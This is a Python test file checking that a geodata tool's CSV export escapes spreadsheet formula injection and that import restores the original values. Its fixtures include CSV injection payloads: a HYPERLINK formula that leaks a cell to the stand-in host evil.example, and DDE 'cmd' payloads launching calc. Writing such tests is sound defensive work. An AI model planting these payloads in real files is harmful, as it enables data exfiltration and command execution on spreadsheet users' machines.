"""Issue 10: CSV export neutralises spreadsheet formulas (OWASP), and import takes them back whole."""
from __future__ import annotations

import csv
import io
import json

from geo.cli.main import main
from geo.export.files import to_csv
from geo.intake.plan import plan_import
from geo.store import load_dataset
from tests.conftest import bundled_scope, make_event, write_folder

HOSTILE = {
    "place": '=HYPERLINK("https://evil.example/?"&A1,"Juliaca")',
    "road": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_es": "-2+3+cmd|' /C calc'!A0",
    "description_en": "\tTab first",
}


def _hostile_folder(tmp_path):
    event = make_event("e-hostile", place=HOSTILE["place"], road=HOSTILE["road"], km=12,
                       description=HOSTILE["description"], description_es=HOSTILE["description_es"],
                       description_en=HOSTILE["description_en"], lon=-70.13333, lat=-15.5, fatalities=2,
                       sources=[{"name": "=1+1", "url": "https://example.org/a", "published": "2023-01-09",
                                 "note": "\rcarriage"}])
    return write_folder(tmp_path / "data", [event])


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(tmp_path, capsys):
    folder = _hostile_folder(tmp_path)
    out = tmp_path / "jan9.csv"
    assert main(["export", "--from", "2023-01-09", "--to", "2023-01-09", "--out", str(out), "--data", str(folder)]) == 0
    row = next(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field
    assert row["source_1_name"] == "'=1+1" and row["source_1_note"] == "'\rcarriage"
    assert row["sources"].startswith("'=1+1 (2023-01-09)")
    # Numbers stay numbers, negative ones included.
    assert (row["lon"], row["lat"], row["km"], row["fatalities"]) == ("-70.13333", "-15.5", "12", "2")
    assert not any(cell[:1] in "=+@\t\r" for cell in row.values() if cell)


def test_import_round_trips_what_export_writes(tmp_path):
    folder = _hostile_folder(tmp_path)
    dataset = load_dataset(folder)
    from geo.export.files import export_records
    from geo.query.active import events_in_range
    text = to_csv(export_records(events_in_range(dataset, "2023-01-09", "2023-01-09")))
    plan = plan_import(text, "again.csv", {"type": "FeatureCollection", "features": []}, scope=bundled_scope())
    assert plan.ok, plan.problems
    props = plan.features()[0]["properties"]
    original = json.loads((folder / "events.geojson").read_text(encoding="utf-8"))["features"][0]["properties"]
    for field, value in HOSTILE.items():
        assert props[field] == value.strip() if field == "description_en" else props[field] == value, field
    assert props["sources"] == [dict(original["sources"][0], note="carriage")]   # cells are trimmed on import
    assert props["km"] == 12 and props["fatalities"] == 2
